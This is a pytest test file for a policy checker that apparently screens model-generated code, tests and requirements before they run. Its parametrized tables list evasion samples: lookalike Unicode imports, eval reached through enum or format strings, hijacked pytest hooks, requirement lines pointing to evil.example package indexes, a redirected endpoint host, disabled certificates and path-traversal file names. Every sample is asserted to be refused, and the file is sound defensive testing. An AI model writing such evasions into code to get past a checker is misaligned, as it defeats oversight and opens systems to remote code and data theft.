"""Replies written to get around the policy: each is refused, with a reason, before anything of it runs."""

import importlib
import json
import tomllib
from importlib.resources import files as package_files
from types import ModuleType

import pytest

from lsqm.generate.extract import Malformed, extract
from lsqm.generate.files import conftest
from lsqm.generate.ladder import Climb, climb_static
from tests.unit.generate.models import GOOD_TEST, answer


def climbed(**files: str) -> Climb:
    raw = extract(answer(**files))
    return climb_static({**raw, "conftest.py": conftest(raw["conftest.py"])}, ("sns",))


def inside(body: str) -> str:
    return f"def f(x=1):\n    {body}\n"


CLIENT = {
    "compatibility letters": "import ｏｓ",
    "compatibility letters in a call": inside("ｅｘｅｃ('x')"),
    "compatibility underscores": inside("return x.＿＿class＿＿"),
    "bold eval": inside("return 𝓮𝓿𝓪𝓵('1')"),
    "built name": inside("return getattr(f, '__glo' + 'bals__')"),
    "builtins of enum": "import enum\n" + inside("return enum.bltns.eval('1')"),
    "types of dataclasses": "import dataclasses\n" + inside("return dataclasses.types.FunctionType"),
    "from enum": "from enum import bltns",
    "requests of botocore": "import botocore.exceptions\n" + inside("return botocore.exceptions.requests"),
    "importlib": "import importlib",
    "ctypes": "import ctypes",
    "pickle": "import pickle",
    "marshal": "import marshal",
    "asyncio": "import asyncio",
    "text that is evaluated": "import typing\n" + inside("return typing.get_type_hints(x)"),
    "text that is evaluated by dispatch": "from functools import singledispatch",
    "format": inside("return '{0.__class__}'.format(x)"),
    "format of a module": inside("return '{x.os.environ}'.format(x=x)"),
    "format in a specification": inside("return '{:{0.a}}'.format(x)"),
    "format by halves": inside("return ('{0.' + '_a}').format(x)"),
    "format by name": inside("return map(str.format, x)"),
    "format_map": inside("return '{x}'.format_map(x)"),
    "f-string": inside("return f\"{exec('x')}\""),
    "f-string attribute": inside("return f'{x.__class__}'"),
    "coding that hides a line": "# coding: raw_unicode_escape\n#\\u000aimport os",
    "coding in the second line": "#\n# vim: set fileencoding=utf-7 :",
    "coding nobody knows": "# coding: nonsense",
    "byte order mark": "\ufeffimport os",
    "CRLF": "X = 1\r\nimport os\r\n",
    "CR alone": "# c\rimport os\r",
    "decorator that runs": "def deco(f):\n    return f\n\n\n@deco\ndef g():\n    pass",
    "decorator that is a lambda": "@(lambda f: f)\ndef g():\n    pass",
    "default that runs": "def own():\n    return 1\n\n\ndef f(x=own()):\n    pass",
    "annotation that runs": "import time\ndef f(x: time.sleep(9)):\n    pass",
    "constant that runs": "import time\nX = time.sleep(1)",
    "namesake": "def dumps():\n    pass\n\n\nX = dumps()",
    "namesake in a class": "class X:\n    def dumps():\n        pass\n\n    y = dumps()",
    "namesake of a class": "class Own:\n    @staticmethod\n    def dumps():\n        pass\n\n\nX = Own.dumps()",
    "namesake of a constant": "dumps = lambda: 1\nX = dumps()",
    "class body that calls": "class X:\n    y = print('hi')",
    "class body that loops": "class X:\n    for i in range(10**12):\n        pass",
    "nested class body": "class X:\n    class Y:\n        while True:\n            pass",
    "base that runs": "import time\nclass X(time.sleep(5) or object):\n    pass",
    "metaclass": "class X(metaclass=type):\n    pass",
    "method that runs unasked": "class X:\n    def __init_subclass__(cls):\n        pass",
    "hook by import": "import json as pytest_configure",
    "hook by import from": "from json import dumps as pytest_sessionstart",
    "hook by global": inside("global pytest_sessionfinish"),
    "hook as constant": "pytest_collection_modifyitems = lambda items: items.clear()",
    "builtins by capture": "def f(x):\n    match x:\n        case {'a': __builtins__}:\n            pass",
    "builtins by handler": "def f():\n    try:\n        pass\n    except Exception as __loader__:\n        pass",
    "pytest's command": "import pytest\n" + inside("pytest.console_main()"),
    "pytest's patches": "from pytest import MonkeyPatch",
    "pytest by another name": "import pytest as p",
    "pytest as a value": "import pytest\n" + inside("return [pytest]"),
    "uuid asks programs": "import uuid\n" + inside("return uuid.getnode()"),
    "working directory": "import contextlib\n" + inside("return contextlib.chdir('/')"),
    "nested too deeply": "X = " + "-" * 20_000 + "1",
    "nested attributes": "X = a" + ".b" * 15_000,
    "nested sums": "X = " + "+".join(["1"] * 12_000),
    "nested parentheses": "X = " + "(" * 3_000 + "1" + ")" * 3_000,
    "many digits": "X = " + "9" * 50_000,
    "sys by help": inside("help()"),
}
TEST = {
    "condition that is evaluated": "@pytest.mark.skipif('__import__(\"os\")', reason='x')\ndef test_x(client):\n    assert client",
    "expected failure": "@pytest.mark.xfail\ndef test_x(client):\n    assert client",
    "mark that imports": "@pytest.mark.filterwarnings('error::os.X')\ndef test_x(client):\n    assert client",
    "mark by another name": "M = pytest.mark\n\n\n@M.skipif('1')\ndef test_x(client):\n    assert client",
    "fixture by name": "@pytest.fixture(name='http')\ndef other():\n    return None",
    "fixture by keywords": "@pytest.fixture(**{'name': 'http'})\ndef other():\n    return None",
    "fixture by assignment": "client = None",
    "names put together": "@pytest.mark.usefixtures('tmp' + '_path')\ndef test_x(client):\n    assert client",
    "fixture value": "def test_x(client):\n    assert client.getfixturevalue('tmp_path')",
    "parameter in a fixture's place": "@pytest.mark.parametrize(('a', 'state'), [(1, 2)])\ndef test_x(a, state):\n    assert state",
    "parameters in one string": "@pytest.mark.parametrize('a, region', [(1, 2)])\ndef test_x(a, region):\n    assert region",
    "another endpoint": "def test_x(client):\n    assert client('s3', endpoint_url=URL)",
    "another region's host": "def test_x(client):\n    assert client('s3', 'evil.example/#')",
    "a region made up": "def test_x(client):\n    assert client('s3', 'eu-' + REST)",
    "no certificates": "def test_x(client):\n    assert client('s3', verify=False)",
    "plugins": "pytest_plugins = 'pytester'",
    "conftest": "import conftest",
    "namesake from app": "from app import dumps\n\nX = dumps()",
    "decorator from app": "import app\n\n\n@app.cache\ndef f():\n    pass",
}
REQUIREMENTS = {
    "editable": "-e git+https://evil.example/x#egg=boto3",
    "index": "--index-url https://evil.example/simple",
    "file": "-r other.txt",
    "continuation": "boto3 \\\n--pre",
    "extra": "boto3[crt]",
    "vertical tab": "boto3\x0b--index-url=https://evil.example",
    "another alphabet": "bоto3",
}


@pytest.mark.parametrize("code", CLIENT.values(), ids=CLIENT.keys())
def test_client_code_that_reaches_for_more_is_refused(code):
    found = climbed(app_py=code if code.endswith("\r") else f"{code}\n")
    assert not found.may_be_saved
    assert found.errors


@pytest.mark.parametrize("code", TEST.values(), ids=TEST.keys())
def test_tests_that_reach_for_more_are_refused(code):
    found = climbed(test_app_py=f"import pytest\n\n{GOOD_TEST}\n\n{code}\n")
    assert not found.may_be_saved
    assert found.errors


@pytest.mark.parametrize("line", REQUIREMENTS.values(), ids=REQUIREMENTS.keys())
def test_requirements_that_reach_for_more_are_refused(line):
    assert not climbed(requirements_txt=f"{line}\n").may_be_saved


@pytest.mark.parametrize(
    "name", ["/etc/x.py", "a\0.py", "..", "../app.py", "аpp.py", "APP.PY", "app.py ", "..\\x.py", "app.py/../x", ""]
)
def test_no_other_name_is_taken_however_it_looks(name):
    with pytest.raises(Malformed):
        extract(json.dumps({**json.loads(answer()), name: ""}))


def test_a_file_that_is_given_twice_is_refused():
    with pytest.raises(Malformed, match="twice"):
        extract('{"app.py": "import os", ' + answer().lstrip("{"))


def test_ordinary_tests_keep_the_policy():
    code = f"""import json
import re
from collections import namedtuple
from dataclasses import dataclass, field
from uuid import uuid4

import pytest

RUN = uuid4().hex[:8]
DATA = RUN.encode()
BODY = json.dumps({{"a.b": ["__c"]}})
SHAPE = re.compile(r"^\\d+$")
Case = namedtuple("Case", "a b")
BOOKS = [f"book-{{n}}" for n in range(3)]


@dataclass(frozen=True)
class Order:
    id: str
    lines: list = field(default_factory=list)

    def encode(self):
        return "-".join(self.lines).encode()


@pytest.fixture(scope="session")
def order(client):
    yield Order(id="{{}}-{{:>4}}".format(RUN, 1))


@pytest.mark.timeout(40)
@pytest.mark.parametrize(("a", "b"), [pytest.param(1, 2, id="one"), (2, 3)], ids=str)
def test_a_wrong_name_is_told(client, order, a, b):
    with pytest.raises(Exception) as caught:
        client("sns").publish(TopicArn=order.id, Message=BODY, input="x")
    assert type(caught.value).__name__, a < b


{GOOD_TEST}"""
    assert climbed(test_app_py=code).errors == ()


HARMLESS = {
    "abc", "binascii", "collections_abc", "copy", "decoder", "encoder", "enum", "keyword", "numbers", "scanner", "stdlib_re", "struct",
}  # fmt: skip


def test_every_module_that_an_allowed_module_shows_is_harmless_or_refused():
    policy = tomllib.loads((package_files("lsqm.generate") / "policy.toml").read_text(encoding="utf-8"))
    allowed = set(policy["modules"]["allowed"])
    waiting = sorted(allowed - {"app", "pytest"})
    seen: set[str] = set()
    while waiting:
        module = importlib.import_module(waiting.pop())
        seen.add(module.__name__)
        for name, value in vars(module).items():
            if not isinstance(value, ModuleType) or name.startswith("_") or name in policy["attributes"]["refused"]:
                continue
            if module.__name__ in policy["packages"] and name not in policy["packages"][module.__name__]:
                continue
            assert name in HARMLESS | allowed, f"{module.__name__}.{name} opens a door"
            if value.__name__ not in seen:
                waiting.append(value.__name__)
